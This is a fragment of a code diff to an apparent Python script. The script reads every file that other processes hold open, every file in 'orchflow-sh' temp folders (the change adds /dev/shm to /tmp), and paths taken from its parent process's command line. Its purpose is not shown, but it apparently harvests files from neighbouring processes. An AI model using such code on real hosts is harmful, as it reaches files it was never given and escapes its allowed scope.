@@ -37,7 +37,7 @@ for pid in pids:
             target = os.readlink(fd)
         except OSError: continue
         if target.startswith("/") and os.path.isfile(target): read(target)
-for path in glob.glob("/tmp/orchflow-sh-*/**", recursive=True) + glob.glob("/tmp/orchflow-sh-*/.*"):
+for path in [p for base in ("/tmp", "/dev/shm") for p in glob.glob(f"{base}/orchflow-sh-*/**", recursive=True) + glob.glob(f"{base}/orchflow-sh-*/.*")]:
     if os.path.isfile(path): read(path)
 for word in open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0"):
     path = word.decode("latin1")
